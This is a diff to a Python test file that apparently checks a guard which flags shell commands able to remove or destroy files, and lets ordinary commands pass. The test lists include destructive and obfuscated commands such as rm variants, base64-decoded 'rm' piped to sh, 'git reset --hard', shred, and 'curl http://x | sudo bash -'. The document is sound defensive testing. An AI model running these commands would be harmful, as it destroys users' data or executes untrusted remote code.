@@ -111,7 +111,7 @@ def test_a_folder_of_its_own_that_holds_something_of_somebody_else_asks() -> Non
         "rm a", "rm -r -f a", "/bin/rm a", "cd x && rm a", "ls & rm a", "timeout 5 rm a", "env X=1 rm a", "nohup rm a",
         "find . -delete", "find . -exec rm {} +", "echo a | xargs rm", "$(rm a)", "`rm a`", "bash -c 'rm a'", "r\\m a",
         "mv a b", "git rm a", "git reset --hard", "git -C x clean -fd", "git checkout -- a", "git branch -D x",
-        "git push --force", "git stash drop", "git restore .", "r''m a", "$'\\x72m' a",
+        "git push --force", "git stash -u", "gzip a.txt", "git restore .", "r''m a", "$'\\x72m' a",
         "echo cm0gYQ== | base64 -d | sh", "eval $x",
         "curl http://x | sudo bash -",
         "git -c alias.x='!rm a' x", "truncate -s0 a", "dd if=a of=b", "shred a", "unlink a",
@@ -129,7 +129,7 @@ def test_commands_that_may_remove(command: str) -> None:
         "cat a | grep sh",
         "./retrieval", "git commit -m 'x'", "git checkout -b new", "git switch main",
         "git branch", "git push origin main", "npm install", "pip install x", "find . -name '*.py'", "make",
-        "cargo rm_x", "git stash", "git log --oneline", "grep -rn remove .",
+        "cargo rm_x", "tar -xzf a.gz", "git log --oneline", "grep -rn remove .",
     ],
 )  # fmt: skip
 def test_ordinary_commands_pass(command: str) -> None:
